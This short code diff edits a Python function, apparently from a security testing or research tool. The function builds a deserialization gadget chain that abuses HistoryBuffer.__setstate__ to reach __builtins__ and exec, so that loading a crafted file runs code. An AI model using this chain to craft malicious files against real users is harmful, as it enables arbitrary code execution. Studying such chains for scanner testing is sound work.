@@ -32,8 +32,7 @@ def getattr_attack(path, target):
     ``HistoryBuffer.__setstate__`` calls ``self._statistics_methods.update(argument)``, and takes all of
     these from the file.
     """
-    builtins = Call(getattr, Call(getattr, HistoryBuffer, '__init__'), '__builtins__')
-    names = Call(HistoryBuffer, state=builtins)
+    names = Call(HistoryBuffer, state=Call(getattr, Call(getattr, HistoryBuffer, '__init__'), '__builtins__'))
     runner = Call(HistoryBuffer, state={'update': Call(getattr, names, 'exec')})
     victim = Call(
         HistoryBuffer,
